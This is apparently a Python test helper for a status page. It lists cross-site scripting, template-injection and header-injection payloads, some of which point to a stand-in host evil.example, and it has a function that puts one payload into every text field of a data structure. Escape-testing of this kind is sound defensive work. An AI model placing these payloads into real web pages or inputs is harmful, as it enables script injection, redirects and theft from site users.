"""Texts that would run as HTML, and a way to put one into every text of the status page."""

from collections.abc import Mapping
from dataclasses import fields, is_dataclass, replace
from enum import StrEnum
from typing import Any, TypeVar

T = TypeVar("T")

PAYLOADS = [
    "<script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<form action=https://evil.example><input name=a autofocus>",
    "<!--", "-->", "<![CDATA[", "<?php", "<%= 1 %>",
    "{{ 7 * 7 }}", "{% include 'status.html' %}", "{{ self.__init__.__globals__ }}",
    '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", "`onclick=alert(1)",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3c;script&#x3e;", "\\u003cscript\\u003e", "%3Cscript%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufeff<script>", "\uff1cscript\uff1e", "<\u200bscript>", "\u202egpj.<script>\u202c", "a\u0000<b>",
    "<sc<script>ript>", "<SCRIPT SRC=//evil.example>", "<script\n>", "<script/x>", "<<script>", "<script",
    "</title><script>alert(1)</script>", "</textarea><script>", "</style><script>",
    "x" * 5000 + "<script>", "<" * 500, "A\r\nSet-Cookie: a=b\r\n\r\n<script>",
]  # fmt: skip


def poisoned(value: T, text: str) -> T:
    """Return a copy of a frozen value with ``text`` in place of every text, at any depth."""
    changed: Any = value
    if isinstance(value, str) and not isinstance(value, StrEnum):
        changed = text
    elif isinstance(value, tuple):
        changed = tuple(poisoned(item, text) for item in value)
    elif isinstance(value, Mapping):
        changed = {name: poisoned(item, text) for name, item in value.items()}
    elif is_dataclass(value) and not isinstance(value, type):
        changed = replace(value, **{one.name: poisoned(getattr(value, one.name), text) for one in fields(value)})
    result: T = changed
    return result
